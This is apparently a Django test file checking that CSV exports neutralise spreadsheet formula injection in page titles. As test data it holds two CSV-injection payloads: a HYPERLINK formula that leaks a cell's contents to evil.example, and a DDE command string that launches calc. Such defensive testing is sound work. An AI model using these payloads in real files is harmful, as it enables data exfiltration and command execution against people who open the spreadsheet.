"""No CSV export lets a typed title run as a spreadsheet formula (core/exports.py: one rule for all).

The register's export has its own test (involvement/tests/test_admin_access.py); the sign-off log's
CSV is in workflows/.
"""

import csv
import io

import pytest
from django.urls import reverse

from pages.tests.factories import OpportunityPageFactory, days, today
from reporting import figures
from reporting.tests.factories import EngagementReportPageFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SPACED = "  +cmd|' /C calc'!A0"


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text, *titles):
    for title in titles:
        assert "'" + title in cells(text), title
    # No cell, whatever its leading spaces, starts as a formula would.
    assert not [cell for cell in cells(text) if cell.lstrip(" ")[:1] in ("=", "+", "@")]


@pytest.fixture
def overdue(opportunity_index):
    for title in (FORMULA, SPACED):
        OpportunityPageFactory(parent=opportunity_index, title=title, opens=days(-130), closes=days(-100))


@pytest.mark.django_db
def test_the_feedback_overdue_csv_keeps_titles_as_text(client, editor, overdue):
    client.force_login(editor)
    response = client.get(reverse("reporting_feedback_overdue"), {"export": "csv"})
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode(), FORMULA, SPACED)


@pytest.mark.django_db
def test_the_annual_report_figures_keep_titles_as_text(client, home, overdue):
    page = EngagementReportPageFactory(parent=home, year_start=figures.year_containing(today()).start_year)
    page.save_revision().publish()
    response = client.get(f"{page.url}figures.csv")
    assert response.status_code == 200
    assert_no_formula(response.content.decode(), FORMULA, SPACED)
